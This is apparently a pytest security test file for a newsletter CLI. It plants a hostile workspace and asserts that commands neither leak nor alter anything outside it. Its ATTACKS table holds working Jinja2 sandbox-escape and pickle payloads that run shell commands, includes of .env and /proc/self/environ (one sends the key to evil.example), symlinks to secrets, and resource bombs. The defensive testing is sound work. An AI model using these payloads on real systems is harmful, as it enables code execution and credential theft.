"""A workspace that somebody else made: whatever stands in it, a command reads and writes nothing outside its own folders."""

import email
import email.policy
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from newsletter.cli import run
from newsletter.render.email import EmailImage

SECRET = "STIBEE_API_KEY=sk-very-secret-0123456789"
PUBLICATION = """\
name: 남의 뉴스레터
language: ko
sender: {name: 남, email: news@example.com}
layout: evil
esp: stibee
footer: {company: 남, address: 서울, phone: 02-120, email: a@example.com}
"""
ISSUE = "date: 2024-01-31\nheadline: {title: 제목, body: 글}\n"
MJML = '<mjml lang="ko"><mj-head><mj-title>x</mj-title></mj-head><mj-body>\n%s\n</mj-body></mjml>'
TEXT = "<mj-section><mj-column><mj-text>%s</mj-text></mj-column></mj-section>"

COMMANDS = (
    ("render", "--format", "html,text,mjml,eml"),
    ("check",),
    ("export", "x", "--esp", "stibee"),
    ("export", "x", "--esp", "ghost"),
    ("push", "x", "--esp", "stibee", "--dry-run"),
)

Attack = Callable[[Path], None]


def layout(body: str, **files: str) -> Attack:
    """Put a layout into the workspace whose body is ``body``."""

    def plant(folder: Path) -> None:
        for name, text in {
            "email.mjml.j2": MJML % (TEXT % body),
            "email.txt.j2": "{{ subject }}",
            "style.css": "",
            **files,
        }.items():
            (folder / "layouts" / "evil" / name).write_text(text, "utf-8")

    return plant


def issue(more: str) -> Attack:
    """Put ``more`` into the issue."""

    def plant(folder: Path) -> None:
        (folder / "issues" / "x.yaml").write_text(ISSUE + more, "utf-8")

    return plant


def link(name: str, target: str) -> Attack:
    """Put a link into the workspace in the place of what is there."""

    def plant(folder: Path) -> None:
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target)

    return plant


def write(name: str, text: str) -> Attack:
    """Put a file into the workspace."""

    def plant(folder: Path) -> None:
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text, "utf-8")

    return plant


def write_bytes(name: bytes, data: bytes) -> Attack:
    """Put a file into the workspace whose name may be no text."""

    def plant(folder: Path) -> None:
        Path(os.fsdecode(os.fsencode(folder) + b"/" + name)).write_bytes(data)

    return plant


def both(*attacks: Attack) -> Attack:
    """Do one after the other."""

    def plant(folder: Path) -> None:
        for attack in attacks:
            attack(folder)

    return plant


ATTACKS: dict[str, Attack] = {
    "a pickle": layout("""{{ issue.parse_raw("cposix\\nsystem\\n(S'touch CANARY'\\ntR.", proto="pickle", allow_pickle=true) }}"""),
    "a pickle from a file": layout('{{ issue.parse_file("../outside.pickle", proto="pickle", allow_pickle=true) }}'),
    "the filters' own state": layout('{{ _context.images.folder.joinpath("/tmp/x").write_text("x") }}'),
    "the mail's own state by its key": layout('{{ self._TemplateReference__context["the mail"] }}'),
    "globals of a function": layout("{{ cycler.__init__.__globals__.os.popen('touch CANARY').read() }}"),
    "globals of a macro": layout("{% macro m() %}{% endmacro %}{{ m.__call__.__globals__ }}"),
    "subclasses": layout("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    "attr": layout("{{ issue|attr('parse_raw') }}"),
    "format": layout("{{ '{0.__class__.__init__.__globals__}'.format(issue) }}"),
    "map by attribute": layout("{{ [issue]|map(attribute='__class__')|join }}"),
    "an include of the environment": layout('{% include "/proc/self/environ" %}'),
    "an include of .env": layout('<img alt="" src="https://evil.example/?k={% include "../../.env" %}">'),
    "an include through a link": both(layout('{% include "parts/x.mjml.j2" %}'), link("layouts/evil/parts/x.mjml.j2", "../../../.env")),
    "an import": layout('{% import "../../.env" as x %}{{ x }}'),
    "mj-include": layout('</mj-text></mj-column></mj-section><mj-include path="../../.env" /><mj-section><mj-column><mj-text>'),
    "an import in CSS": layout("x", **{"style.css": "@import url('file:///etc/passwd'); a { background: url(../../.env) }"}),
    "a style sheet that is a link": both(layout("x"), link("layouts/evil/style.css", "../../.env")),
    "strings that are a link": both(layout("{{ t }}"), link("layouts/strings/ko.yaml", "../../.env")),
    "settings that are a link": link("layouts/evil/layout.yaml", "../../.env"),
    "an endless file": link("layouts/evil/style.css", "/dev/zero"),
    "a loop": layout("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"),
    "a bomb": layout("{{ 'a' * 10**10 }}"),
    "a doubling text": layout("{% set n = namespace(s='ab') %}{% for i in range(60) %}{% set n.s = n.s ~ n.s %}{% endfor %}{{ n.s }}"),
    "a layout by a path": issue("layout: ../../elsewhere/evil\n"),
    "a layout by an absolute path": issue("layout: /tmp/evil\n"),
    "a picture that is .env": issue("closing: '![x](../.env)'\n"),
    "a headline's picture that is .env": write("issues/x.yaml", "headline: {title: 제목, image: {src: ../.env, alt: x}}\n"),
    "a picture that is a link": both(issue("closing: '![x](images/a.png)'\n"), link("issues/images/a.png", "../../.env")),
    "a picture that leads out": both(issue("closing: '![x](images/a.png)'\n"), link("issues/images/a.png", "../../../outside.txt")),
    "an issue that is a link": link("issues/x.yaml", "../.env"),
    "an issue that is the environment": link("issues/x.yaml", "/proc/self/environ"),
    "an issue that is another file's YAML": link("issues/x.yaml", "../../outside.yaml"),
    "an issue without end": link("issues/x.yaml", "/dev/zero"),
    "a publication that is a link": link("issues/publication.yaml", "../.env"),
    "build is a link": link("build", "../elsewhere"),
    "a folder of build is a link": link("build/x", "../../elsewhere"),
    "an output is a link": link("build/x/email.txt", "../../../outside.txt"),
    "an export is a link": link("build/x/stibee", "../../../elsewhere"),
    "the lock is a link": link("build/x/drafts.lock", "../../../outside.txt"),
    "drafts.json is a link": link("build/x/drafts.json", "../../../outside.txt"),
    "addresses of services": write(".env", f"{SECRET}\nSTIBEE_API_URL=http://127.0.0.1:9/\nGHOST_URL=http://127.0.0.1:9/\n"),
    "a draft's number that is a path": write("build/x/drafts.json", '{"stibee": {"id": "1/send?x=", "state": "created"}}'),
    "a sheet that is nested without end": layout("x", **{"style.css": "a{" * 5000}),
    "a style that is nested without end": layout("<b style='color:" + "(" * 5000 + "'>x</b>"),
    "a style that a mail's reader cannot be shown": both(layout("<b style='{{ issue.extra.x }}'>x</b>"), issue(f"extra: {{x: '{'(' * 5000}'}}\n")),
    "a picture that is cut off": both(issue("closing: '![x](images/a.png)'\n"), write_bytes(b"issues/images/a.png", b"RIFF\xff\xff\xff\xffWEBPVP8X")),
    "a file name that is not UTF-8": write_bytes(b"issues/\xff.yaml", ISSUE.encode()),
}  # fmt: skip


@pytest.fixture
def hostile(tmp_path: Path) -> Path:
    """A workspace of somebody else's, with files of the user's around it."""
    folder = tmp_path / "workspace"
    for name in ("issues/images", "layouts/evil/parts", "layouts/strings"):
        (folder / name).mkdir(parents=True)
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "outside.txt").write_text("the user's own words", "utf-8")
    (tmp_path / "outside.yaml").write_text("token: the user's own words\n", "utf-8")
    (folder / ".env").write_text(SECRET, "utf-8")
    (folder / "issues" / "publication.yaml").write_text(PUBLICATION, "utf-8")
    issue("")(folder)
    layout("x")(folder)
    return folder


@pytest.mark.parametrize("name", ATTACKS)
def test_a_hostile_workspace_gets_nothing(
    hostile: Path, name: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    ATTACKS[name](hostile)
    monkeypatch.setenv("NEWSLETTER_TEST_SECRET", "of-the-environment")
    monkeypatch.chdir(hostile)
    codes = [run(list(words)) for words in COMMANDS]
    said = "".join(capfd.readouterr())
    assert set(codes) <= {0, 1, 2, 3, 4}, (codes, said)
    assert "Traceback" not in said
    outside = hostile.parent
    assert (outside / "outside.txt").read_text("utf-8") == "the user's own words"
    assert list((outside / "elsewhere").iterdir()) == []
    assert not list(outside.rglob("CANARY"))
    for text in (said, *map(readable, files_in(hostile / "build"))):
        assert "sk-very-secret" not in text
        assert "of-the-environment" not in text
        assert "the user's own words" not in text


def files_in(folder: Path) -> list[Path]:
    """Every file that was written, but for links and what an attack put there."""
    return [path for path in folder.rglob("*") if path.is_file() and not path.is_symlink()] if not folder.is_symlink() else []


def readable(path: Path) -> str:
    """A file's text; of a message, the text of each part."""
    data = path.read_bytes()
    if path.suffix != ".eml":
        return data.decode("utf-8", "replace")
    message = email.message_from_bytes(data, policy=email.policy.default)
    parts = [part.get_payload(decode=True) for part in message.walk() if not part.is_multipart()]
    return "".join(part.decode("utf-8", "replace") for part in parts if isinstance(part, bytes))


def test_what_the_attacks_look_for_would_be_seen(hostile: Path) -> None:
    (hostile / "build").mkdir()
    (hostile / "build" / "email.html").write_text(SECRET)
    assert [SECRET in readable(path) for path in files_in(hostile / "build")] == [True]


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
def test_a_picture_is_read_only_from_its_root_and_by_its_bytes(tmp_path: Path) -> None:
    (tmp_path / "issues").mkdir()
    (tmp_path / "issues" / "no.png").write_text(SECRET)
    (tmp_path / "out.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"x" * 20)
    (tmp_path / "issues" / "link.png").symlink_to(tmp_path / "out.png")
    (tmp_path / "issues" / "yes.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"x" * 20)
    read = {
        name: EmailImage(f"images/{name}", tmp_path / "issues" / name, None, None, tmp_path / "issues").read() is not None
        for name in ("no.png", "link.png", "yes.png", "missing.png")
    }
    assert read == {"no.png": False, "link.png": False, "yes.png": True, "missing.png": False}
